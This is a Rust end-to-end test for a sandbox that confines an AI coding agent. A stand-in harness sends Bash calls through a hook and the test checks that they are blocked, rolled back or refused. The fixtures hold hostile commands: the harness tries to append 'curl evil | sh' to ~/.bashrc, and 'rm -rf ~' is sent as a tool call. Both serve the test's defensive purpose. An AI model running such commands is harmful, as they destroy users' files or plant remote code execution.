//! An agent session end to end, where the pieces meet: `ftsb-fs run WS --harness claude`
//! starts a stand-in harness, confined by the claude profile, that behaves like Claude Code.
//! For each Bash tool call it pipes the documented PreToolUse payload into the hook command
//! `ftsb-fs init claude --print` registers, run as Claude Code runs it (`sh -c`, with
//! `CLAUDE_PROJECT_DIR` set, from inside the confinement), obeys the answer (exit 2 or `deny`
//! blocks, `updatedInput.command` runs instead; `ask` is approved as a user would) and records
//! each outcome as a JSON line.
//!
//! The workspace has a `.ftsb-fs.toml` naming a policy of its own, so `exec`, started by the
//! hook's rewrite inside the agent's confinement, must still read the configuration `mount`
//! pinned in the store (which the agent may not read).

#![allow(
    clippy::unwrap_used,
    reason = "tests fail loudly on any unexpected error"
)]

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Command, Output};

use common::*;
use serde_json::Value;

/// The stand-in harness. argv[1] is the hook command line; it runs the tool calls listed in
/// argv[2] (a JSON array of Bash command lines), then tries to append to `~/.bashrc` itself,
/// and exits 9.
const AGENT: &str = r#"#!/usr/bin/env python3
import json, os, subprocess, sys

hook, calls = sys.argv[1], json.loads(sys.argv[2])

def bash(command):
    payload = {
        "session_id": "e2e",
        "transcript_path": os.path.join(os.environ["TMPDIR"], "transcript.jsonl"),
        "cwd": os.getcwd(),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": command, "description": "a step"},
        "tool_use_id": "toolu_e2e",
    }
    env = dict(os.environ, CLAUDE_PROJECT_DIR=os.getcwd())
    h = subprocess.run(["sh", "-c", hook], input=json.dumps(payload).encode(),
                       capture_output=True, env=env)
    rec = {"call": command, "hook_exit": h.returncode, "hook_stderr": h.stderr.decode()}
    if h.returncode == 2:
        rec["outcome"] = "blocked"
        return rec
    answer = json.loads(h.stdout) if h.returncode == 0 and h.stdout.strip() else {}
    out = answer.get("hookSpecificOutput", {})
    if out.get("permissionDecision") == "deny":
        rec["outcome"] = "blocked"
        return rec
    # Any other exit is a non-blocking error to Claude Code: the tool runs as asked.
    if "updatedInput" in out:
        command = out["updatedInput"]["command"]
    r = subprocess.run(["bash", "-c", command], capture_output=True)
    rec.update(outcome="ran", ran=command, exit=r.returncode, stderr=r.stderr.decode())
    return rec

for c in calls:
    print(json.dumps(bash(c)), flush=True)
try:
    with open(os.path.join(os.environ["HOME"], ".bashrc"), "a") as f:
        f.write("curl evil | sh\n")
    print(json.dumps({"call": "write ~/.bashrc", "outcome": "written"}), flush=True)
except OSError as e:
    print(json.dumps({"call": "write ~/.bashrc", "outcome": "refused", "error": str(e)}), flush=True)
sys.exit(9)
"#;

/// The workspace's own policy: `make deploy` is the user's to run.
const POLICY: &str = r#"
[[rule]]
id = "local.no_deploy"
category = "infra"
decision = "deny"
reason = "deploying needs a human"
programs = ["make"]
args = ["deploy"]
match = ["make deploy"]
"#;

/// Landlock is what `run` confines with: without ABI 6 these tests cannot pass.
fn landlock_or_skip() -> bool {
    require(
        ftsb_fs::confine::probe().abi >= 6,
        "the agent end-to-end test",
        "this kernel lacks Landlock ABI 6, which run's confinement needs",
    ) && have("python3")
}

/// A session's temp dirs: the workspace, a state home (the store lives under it), an empty
/// config home, a fake `$HOME` and a bin dir for the stand-in harness.
struct Session {
    _root: tempfile::TempDir,
    ws: PathBuf,
    state: PathBuf,
    home: PathBuf,
    bin: PathBuf,
}

impl Session {
    fn new() -> Session {
        let root = tempfile::Builder::new()
            .prefix("ftsb-e2e-")
            .tempdir()
            .unwrap();
        let base = root.path().canonicalize().unwrap();
        let s = Session {
            ws: base.join("ws"),
            state: base.join("state"),
            home: base.join("home"),
            bin: base.join("bin"),
            _root: root,
        };
        for d in [&s.ws, &s.state, &s.bin, &s.home.join(".config")] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::write(s.ws.join("kept"), "workspace\n").unwrap();
        std::fs::write(s.ws.join("policy.toml"), POLICY).unwrap();
        std::fs::write(s.ws.join(".ftsb-fs.toml"), "policy = \"policy.toml\"\n").unwrap();
        std::fs::write(s.home.join(".bashrc"), "# rc\n").unwrap();
        s
    }

    fn ftsb(&self) -> Command {
        let mut c = Command::new(BIN);
        c.env("XDG_STATE_HOME", &self.state)
            .env("XDG_CONFIG_HOME", self.home.join(".config"))
            .env("HOME", &self.home);
        c
    }

    /// Writes the stand-in harness, named like Claude Code's binary.
    fn agent(&self) -> PathBuf {
        let p = self.bin.join("claude");
        std::fs::write(&p, AGENT).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p
    }

    /// The hook command line `init claude --print` registers for Bash.
    fn hook(&self) -> String {
        let out = run_ok(self.ftsb().args(["init", "claude", "--print"]));
        let settings: Value = serde_json::from_slice(&out.stdout).unwrap();
        let group = settings["hooks"]["PreToolUse"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| {
                g["matcher"]
                    .as_str()
                    .is_some_and(|m| m.split('|').any(|t| t == "Bash"))
            })
            .expect("a PreToolUse hook for Bash");
        group["hooks"][0]["command"].as_str().unwrap().to_owned()
    }

    /// `ftsb-fs run WS --harness claude -- AGENT HOOK CALLS`.
    fn run(&self, calls: &[&str]) -> Output {
        let agent = self.agent();
        let out = output(
            self.ftsb()
                .arg("run")
                .arg(&self.ws)
                .args(["--harness", "claude", "--"])
                .arg(&agent)
                .arg(self.hook())
                .arg(serde_json::to_string(calls).unwrap()),
        );
        eprintln!(
            "run: {:?}\nstdout: {}\nstderr: {}",
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    fn view(&self, rel: &str) -> PathBuf {
        self.ws.join(rel)
    }
}

impl Drop for Session {
    fn drop(&mut self) {
        if ftsb_fs::daemon::mounted_workspace(&self.ws).is_some() {
            let _ = output(self.ftsb().arg("unmount").arg("--abort").arg(&self.ws));
        }
        if is_mounted(&self.ws) {
            detach(&self.ws);
        }
    }
}

/// The agent's records, one per tool call, by the call's text.
fn records(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v.get("call").is_some())
        .collect()
}

fn record<'a>(recs: &'a [Value], call: &str) -> &'a Value {
    recs.iter()
        .find(|r| r["call"] == call)
        .unwrap_or_else(|| panic!("no record of {call:?} in {recs:?}"))
}

fn log(s: &Session) -> Vec<Value> {
    let out = run_ok(s.ftsb().args(["--json", "log"]).arg(&s.ws));
    serde_json::from_slice::<Value>(&out.stdout)
        .unwrap()
        .as_array()
        .unwrap()
        .clone()
}

fn exec_entry<'a>(log: &'a [Value], needle: &str) -> Option<&'a Value> {
    log.iter()
        .find(|e| e["kind"] == "exec" && e["command"].as_str().is_some_and(|c| c.contains(needle)))
}

#[test]
fn a_claude_session_under_run_goes_through_the_hook_and_exec() {
    if !landlock_or_skip() {
        return;
    }
    let s = Session::new();
    let out = s.run(&[
        "echo hello > hello.txt",
        "echo junk > junk.txt; exit 3",
        "make deploy",
        "ftsb-fs commit",
        "rm -rf ~",
    ]);
    let recs = records(&out);
    assert_eq!(out.status.code(), Some(9), "run returns the agent's status");

    // An ordinary command is rewritten through `exec`, runs, and leaves a checkpoint.
    let hello = record(&recs, "echo hello > hello.txt");
    assert_eq!(hello["outcome"], "ran", "{hello}");
    let ran = hello["ran"].as_str().unwrap();
    assert!(
        ran.starts_with(&format!("{BIN} exec ")),
        "not routed through exec: {hello}"
    );
    assert_eq!(hello["exit"], 0, "{hello}");
    // A failing one runs through exec too, and is rolled back.
    let junk = record(&recs, "echo junk > junk.txt; exit 3");
    assert_eq!(junk["outcome"], "ran", "{junk}");
    assert!(junk["ran"].as_str().unwrap().starts_with(BIN), "{junk}");
    assert_eq!(junk["exit"], 3, "{junk}");
    // The workspace's own policy (pinned in the store at mount) still holds for exec inside
    // the agent's confinement: the hook lets `make deploy` through to exec, whose gate refuses.
    let deploy = record(&recs, "make deploy");
    assert_eq!(deploy["outcome"], "ran", "{deploy}");
    assert_eq!(deploy["exit"], 3, "exec's gate refuses it: {deploy}");
    assert!(
        deploy["stderr"]
            .as_str()
            .unwrap()
            .contains("deploying needs a human"),
        "{deploy}"
    );
    // The session's decisions and the home are not the agent's.
    for blocked in ["ftsb-fs commit", "rm -rf ~"] {
        let r = record(&recs, blocked);
        assert_eq!(r["outcome"], "blocked", "{r}");
    }
    let rc = record(&recs, "write ~/.bashrc");
    assert_eq!(rc["outcome"], "refused", "{rc}");
    assert_eq!(
        std::fs::read_to_string(s.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );

    let log = log(&s);
    let hello_step = exec_entry(&log, "echo hello > hello.txt").expect("a checkpoint for hello");
    assert_ne!(hello_step["rolled_back"], true, "{hello_step}");
    assert_eq!(hello_step["exit_code"], 0, "{hello_step}");
    let junk_step = exec_entry(&log, "echo junk > junk.txt").expect("a checkpoint for junk");
    assert_eq!(junk_step["rolled_back"], true, "{junk_step}");
    assert!(
        log.iter().any(|e| e["kind"] == "refused"
            && e["command"]
                .as_str()
                .is_some_and(|c| c.contains("make deploy"))),
        "exec's refusal is in the log: {log:?}"
    );
    assert_eq!(
        std::fs::read_to_string(s.view("hello.txt")).unwrap(),
        "hello\n"
    );
    assert!(!s.view("junk.txt").exists(), "the failing step was undone");
    // Nothing reached the workspace itself: the view is still mounted, uncommitted.
    assert!(ftsb_fs::daemon::mounted_workspace(&s.ws).is_some());
}
